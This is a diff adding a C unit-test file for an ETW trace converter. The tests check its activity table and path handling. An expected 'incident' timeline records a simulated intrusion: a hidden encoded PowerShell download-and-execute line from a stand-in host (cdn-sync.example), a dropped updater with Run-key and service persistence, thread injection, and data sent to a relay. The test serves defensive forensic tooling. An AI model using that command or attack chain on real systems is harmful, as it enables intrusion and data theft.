@@ -1,0 +1,277 @@
+// Activities: that the table holds together and names fields that events have, and what the incident's story shows.
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+
+#include <cjson/cJSON.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "activity/activity.h"
+#include "base/known_guids.h"
+#include "etl_text.h"
+#include "program.h"
+
+#define RUN(p, ...) program_run((p), (const char *const[]){__VA_ARGS__, NULL})
+
+// ---------------------------------------------------------------------------------------------- the table
+
+static bool is_field(const char *name, size_t len)
+{
+    static const char *const OTHERS[] = {"action", "ipv6"};
+    for (u32 i = 0; i < ACTIVITY_FIELDS; i++)
+        if (strlen(activity_fields[i].name) == len && memcmp(activity_fields[i].name, name, len) == 0)
+            return true;
+    for (size_t i = 0; i < COUNT_OF(OTHERS); i++)
+        if (strlen(OTHERS[i]) == len && memcmp(OTHERS[i], name, len) == 0)
+            return true;
+    return false;
+}
+
+static void sentences_name_fields(void **state)
+{
+    (void)state;
+    for (u32 i = 0; i < ACTIVITY_KINDS; i++) {
+        int open = 0;
+        for (const char *at = activity_kinds[i].sentence; *at; at++) {
+            open += *at == '[' ? 1 : *at == ']' ? -1 : 0;
+            assert_in_range(open, 0, 1);
+            if (*at == '{' && !is_field(at + 1, strcspn(at + 1, "}")))
+                fail_msg("%s: %s", activity_kinds[i].name, at);
+        }
+        assert_int_equal(open, 0);
+    }
+}
+
+static void every_kind_has_events(void **state)
+{
+    (void)state;
+    bool has[ACTIVITY_KINDS] = {false};
+    for (u32 i = 0; i < activity_source_count; i++)
+        has[activity_sources[i].kind] = true;
+    for (u32 i = 0; i < ACTIVITY_KINDS; i++)
+        assert_true(has[i]);
+}
+
+// The field of a payload that a source names; 0: it names none.
+static size_t payload_field(const char *source, const char **name)
+{
+    if (*source == '\'')
+        return 0;
+    if (*source == '@') {
+        *name = strpbrk(source, "+? ");
+        if (!*name || **name == ' ')
+            return 0;
+        (*name)++;
+    } else {
+        *name = source;
+    }
+    return strcspn(*name, " :>");
+}
+
+static void check_fields(const activity_source *s, const char *shown, bool has_event)
+{
+    for (const char *at = s->fields; *at; at += strcspn(at, " "), at += strspn(at, " ")) {
+        size_t len = strcspn(at, "=");
+        const char *name = NULL;
+        if (!is_field(at, len))
+            fail_msg("there is no field %.*s", (int)len, at);
+        size_t name_len = payload_field(at + len + 1, &name);
+        char wanted[80];
+        snprintf(wanted, sizeof(wanted), "    %.*s ", (int)name_len, name);
+        if (name_len && has_event && !strstr(shown, wanted))
+            fail_msg("event %u (%s): no field %.*s in\n%s", s->first, activity_kinds[s->kind].name, (int)name_len, name,
+                     shown);
+    }
+}
+
+// Fields of providers' events are those of the built-in core, which has no Sysmon; the kernel's, and those of events
+// with names alone, are checked by traces.
+static void fields_are_those_of_events(void **state)
+{
+    program *p = *state;
+    for (u32 i = 0; i < activity_source_count; i++) {
+        const activity_source *s = &activity_sources[i];
+        char id[GUID_TEXT], number[8];
+        bool asks = !s->classic && !s->name && !guid_equal(&s->provider, &(guid)GUID_SYSMON);
+        guid_to_text(&s->provider, id);
+        snprintf(number, sizeof(number), "%u", s->first);
+        if (asks)
+            assert_int_equal(RUN(p, "schemas", "show", "--cache", "none", id, number), 0);
+        check_fields(s, (const char *)p->out.bytes, asks);
+    }
+}
+
+static void sources_are_put_in_place(void **state)
+{
+    (void)state;
+    arena a = {0};
+    const activity_source named = {.fields = "process=ProcessID path=FileName:path"};
+    const activity_source own = {.fields = "key=@key value_name=KeyName"};
+    assert_string_equal(
+        activity_expand(&a, "EventID='1 Image=.process>image Path=.path Gone=.url Rest=Field *", &named),
+        "EventID='1 Image=ProcessID>image Path=FileName:path Rest=Field *");
+    assert_string_equal(activity_expand(&a, "Image=.process>image Target=.target>id Object=@key+.value_name", &own),
+                        "Image=@image Object=@key+KeyName");
+    assert_string_equal(activity_expand(&a, "Object=@key+.value_name", &named), "Object=@key");
+    arena_free(&a);
+}
+
+// ---------------------------------------------------------------------------------------------- the incident
+
+// What samples/incident.case tells, as sentences; rundowns and threads within a process show nothing.
+static const char *const STORY[] = {
+    "CORP\\mara logged on, type 10, from 198.51.100.77",
+    "CORP\\mara logged on to a session, from 198.51.100.77",
+    "explorer.exe (5120) started: C:\\Windows\\Explorer.EXE",
+    "explorer.exe (5120) loaded C:\\Windows\\explorer.exe",
+    "explorer.exe (5120) begins the autostarts of Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+    "explorer.exe (5120) starts \"C:\\Program Files\\Sync\\sync.exe\" /background",
+    "sync.exe (6200) started: \"C:\\Program Files\\Sync\\sync.exe\" /background",
+    "explorer.exe (5120) started \"C:\\Program Files\\Sync\\sync.exe\" /background",
+    "sync.exe (6200) asked for api.sync.example",
+    "sync.exe (6200) asked for api.sync.example: 192.0.2.30",
+    "WINWORD.EXE (7044) started: \"C:\\Program Files\\Office\\WINWORD.EXE\" /n "
+    "\"C:\\Users\\mara\\Downloads\\invoice.docm\"",
+    "WINWORD.EXE (7044) loaded C:\\Program Files\\Office\\WINWORD.EXE",
+    "powershell.exe (7420) started: powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
+    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
+    "AGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBzAHkAbgBjAC4AZQB4AGEAbQBwAGwAZQAvAHUALgBwAHMAMQAnACkA",
+    "powershell.exe (7420) started: powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
+    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
+    "AGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQBzAHkAbgBjAC4AZQB4AGEAbQBwAGwAZQAvAHUALgBwAHMAMQAnACkA",
+    "powershell.exe (7420) loaded C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "powershell.exe (7420) loaded C:\\Windows\\System32\\amsi.dll",
+    "powershell.exe (7420) ran the script block: IEX (New-Object "
+    "Net.WebClient).DownloadString('http://cdn-sync.example/u.ps1')",
+    "powershell.exe (7420) asked for cdn-sync.example",
+    "powershell.exe (7420) asked for cdn-sync.example: 203.0.113.66",
+    "powershell.exe (7420) connected to 203.0.113.66:80 over tcp",
+    "powershell.exe (7420) sent 214 bytes to 203.0.113.66:80 over tcp",
+    "powershell.exe (7420) received 48412 bytes from 203.0.113.66:80 over tcp",
+    "powershell.exe (7420) created C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
+    "powershell.exe (7420) wrote 32768 bytes to C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
+    "powershell.exe (7420) wrote 15644 bytes to C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
+    "powershell.exe (7420) created C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
+    "powershell.exe (7420) wrote 73728 bytes to C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
+    "updater.exe (7640) started: C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe --install",
+    "updater.exe (7640) loaded C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
+    "updater.exe (7640) set Updater in HKU\\S-1-5-21-2005221396-1177238915-839522115-1107\\SOFTWARE\\Microsoft\\"
+    "Windows\\CurrentVersion\\Run to C:\\Users\\mara\\AppData\\Roaming\\Sync\\updater.exe",
+    "service SyncUpdater was installed: C:\\Windows\\Temp\\svcupd.exe as LocalSystem",
+    "service SyncUpdater was installed: C:\\Windows\\Temp\\svcupd.exe as LocalSystem",
+    "task \\Sync\\UpdaterCheck was registered by CORP\\mara",
+    "updater.exe (7640) started a thread in explorer.exe (5120) at 0x1f0000",
+    "updater.exe (7640) asked for gate.sync-relay.example",
+    "updater.exe (7640) asked for gate.sync-relay.example (status 9003)",
+    "updater.exe (7640) asked for x7q2.sync-relay.example",
+    "updater.exe (7640) asked for x7q2.sync-relay.example: 203.0.113.80",
+    "updater.exe (7640) connected to 203.0.113.80:443 over tcp",
+    "updater.exe (7640) sent 1830 bytes to 203.0.113.80:443 over tcp",
+    "updater.exe (7640) sent 262144 bytes to 203.0.113.80:443 over tcp",
+    "updater.exe (7640) received 512 bytes from 203.0.113.80:443 over tcp",
+    "powershell.exe (7420) deleted C:\\Users\\mara\\AppData\\Local\\Temp\\u.zip",
+    "powershell.exe (7420) ended",
+    "sync.exe (6200) asked for api.sync.example",
+    "sync.exe (6200) asked for api.sync.example: 192.0.2.30",
+    "CORP\\mara logged off",
+};
+
+static bool shows_nothing(const char *message)
+{
+    return strncmp(message, "MSNT_SystemTrace/", strlen("MSNT_SystemTrace/")) == 0 ||
+           strncmp(message, "KernelTraceControl/", strlen("KernelTraceControl/")) == 0;
+}
+
+static void incident_is_told(void **state)
+{
+    program *p = *state;
+    size_t at = 0;
+    assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "-f", "timesketch", "samples/incident.etl"), 0);
+    for (char *line = (char *)p->out.bytes, *end; (end = strchr(line, '\n')) != NULL; line = end + 1) {
+        *end = 0;
+        cJSON *o = cJSON_Parse(line);
+        const char *message = cJSON_GetStringValue(cJSON_GetObjectItem(o, "message"));
+        assert_non_null(message);
+        if (!shows_nothing(message)) {
+            assert_in_range(at, 0, COUNT_OF(STORY) - 1);
+            assert_string_equal(message, STORY[at++]);
+        }
+        cJSON_Delete(o);
+    }
+    assert_int_equal(at, COUNT_OF(STORY));
+}
+
+// Where the sentence stands for the record, its own message is there too.
+static void messages_are_kept(void **state)
+{
+    program *p = *state;
+    assert_int_equal(
+        RUN(p, "convert", "-q", "--cache", "none", "-f", "timesketch", "--where", "event_id = 3008", "samples/dns.etl"),
+        0);
+    assert_non_null(
+        strstr((char *)p->out.bytes,
+               "{\"message\":\"browser.exe (7300) asked for static.example.com: cdn.example.net, 192.0.2.77\""));
+    assert_non_null(strstr((char *)p->out.bytes, ",\"event_message\":\"Look-up of www.example.com, type 1, ended"));
+}
+
+// Paths as events tell them, where nothing maps volumes: the machine ran Windows from HarddiskVolume3.
+static const char PATHS[] =
+    "trace start=2024-05-01T10:00:00Z\n"
+    "system hook=0x1403 version=3 time=+1us pid=100 tid=101 payload ptr:0x7ffa10000000 ptr:0x1000 u32:100,1,1 u8:12,1 u16:0"
+    " ptr:0x7ffa10000000 u32:0,0,0,0 wstr:\"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\ntdll.dll\"\n"
+#define OPENED(time, path)                                                                                             \
+    "system hook=0x0440 version=3 time=+" time                                                                         \
+    "us pid=100 tid=101 payload ptr:1 ptr:2 u32:101,0x05000000,0,0 wstr:\"" path "\"\n"
+    OPENED("10", "\\\\Device\\\\HarddiskVolume3\\\\x.txt") OPENED("20", "\\\\Device\\\\HarddiskVolume30\\\\x.txt")
+        OPENED("30", "\\\\SystemRoot\\\\x.txt") OPENED("40", "\\\\??\\\\D:\\\\x.txt")
+            OPENED("50", "\\\\Device\\\\Mup\\\\server\\\\share\\\\x.txt")
+                OPENED("60", "\\\\??\\\\C:\\\\PROGRA~2\\\\x.txt") OPENED("70", "\\\\Windows\\\\x.txt")
+                    OPENED("80", "\\\\Device\\\\HarddiskVolume3");
+
+static void paths_are_dos_paths(void **state)
+{
+    static const char *const WANTED[] = {
+        "C:\\x.txt",          "\\Device\\HarddiskVolume30\\x.txt", "C:\\Windows\\x.txt",
+        "D:\\x.txt",          "\\\\server\\share\\x.txt",          "C:\\Program Files (x86)\\x.txt",
+        "C:\\Windows\\x.txt", "\\Device\\HarddiskVolume3"};
+    program *p = *state;
+    outbuf file = {0};
+    error e = {0};
+    char path[512];
+    if (!etl_text_build(PATHS, strlen(PATHS), &file, &e))
+        fail_msg("%s", e.message);
+    bytes_save(program_path(p, "paths.etl", path), file.bytes, file.len);
+    outbuf_free(&file);
+    assert_int_equal(RUN(p, "convert", "-q", "--cache", "none", "-f", "timesketch", "--where", "opcode = 64", path), 0);
+    char *line = (char *)p->out.bytes;
+    for (size_t i = 0; i < COUNT_OF(WANTED); i++) {
+        char *end = strchr(line, '\n');
+        assert_non_null(end);
+        *end = 0;
+        cJSON *o = cJSON_Parse(line);
+        const char *message = cJSON_GetStringValue(cJSON_GetObjectItem(o, "message"));
+        static const char HEAD[] = "process (100) created ";
+        assert_memory_equal(message, HEAD, strlen(HEAD));
+        assert_string_equal(message + strlen(HEAD), WANTED[i]);
+        cJSON_Delete(o);
+        line = end + 1;
+    }
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(sentences_name_fields),
+        cmocka_unit_test(every_kind_has_events),
+        cmocka_unit_test(sources_are_put_in_place),
+        cmocka_unit_test_setup_teardown(fields_are_those_of_events, program_setup, program_teardown),
+        cmocka_unit_test_setup_teardown(incident_is_told, program_setup, program_teardown),
+        cmocka_unit_test_setup_teardown(paths_are_dos_paths, program_setup, program_teardown),
+        cmocka_unit_test_setup_teardown(messages_are_kept, program_setup, program_teardown),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
